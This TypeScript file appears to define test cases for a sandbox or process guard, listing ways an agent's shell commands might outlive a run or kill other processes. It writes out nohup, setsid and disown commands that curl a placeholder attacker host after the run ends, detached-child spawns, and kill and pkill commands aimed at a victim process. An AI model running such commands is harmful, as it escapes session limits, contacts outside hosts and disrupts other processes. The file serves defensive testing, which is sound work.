import type { AttackGoal } from '../attack-goal.js';
import { sh, viaHelper } from './steps.js';

/** Processes that outlive the run, and processes the run has no business killing. */
export const PROCESS_GOALS: readonly AttackGoal[] = [
  {
    id: 'bg.late-callback',
    class: 'background-process',
    title: 'call the attacker back after the run has ended',
    routes: [
      [sh("nohup sh -c 'sleep 3; curl -s {{ATTACKER}}/late' >/dev/null 2>&1 &")],
      [sh("setsid sh -c 'sleep 3; curl -s {{ATTACKER}}/late2' >/dev/null 2>&1 < /dev/null &")],
      [sh('(sleep 3; curl -s {{ATTACKER}}/late3) > /dev/null 2>&1 & disown')],
    ],
    effects: [{ kind: 'process_survived' }, { kind: 'attacker_contacted' }],
  },
  {
    id: 'bg.detached-child',
    class: 'background-process',
    title: 'spawn a detached child from an interpreter',
    routes: [
      [sh(`node -e "require('child_process').spawn('sleep', ['30'], { detached: true, stdio: 'ignore' }).unref()"`)],
      [sh(`python3 -c "import subprocess; subprocess.Popen(['sleep', '30'], start_new_session=True)"`)],
      [viaHelper('bg.detached-child', [sh('setsid sleep 30 > /dev/null 2>&1 < /dev/null &')])],
    ],
    effects: [{ kind: 'process_survived' }],
  },
  {
    id: 'bg.plain-background',
    class: 'background-process',
    title: 'leave a background job running',
    routes: [[sh('sleep 30 &')], [sh("sh -c 'sleep 30 &'")], [sh('nohup sleep 30 > /dev/null 2>&1 &')]],
    effects: [{ kind: 'process_survived' }],
  },
  {
    id: 'kill.by-pid',
    class: 'kill-process',
    title: 'kill another process by its id',
    routes: [[sh('kill -9 {{VICTIM_PID}}')], [sh('kill {{VICTIM_PID}}')], [sh(`node -e "process.kill({{VICTIM_PID}})"`)]],
    effects: [{ kind: 'victim_killed' }],
  },
  {
    id: 'kill.by-name',
    class: 'kill-process',
    title: 'kill another process by its name',
    routes: [[sh('pkill -f {{VICTIM}}')], [sh('kill $(pgrep -f {{VICTIM}})')], [sh("ps -eo pid,args | grep '[w]arden-victim-{{VICTIM_SUFFIX}}' | awk '{print $1}' | xargs kill")]],
    effects: [{ kind: 'victim_killed' }],
  },
];
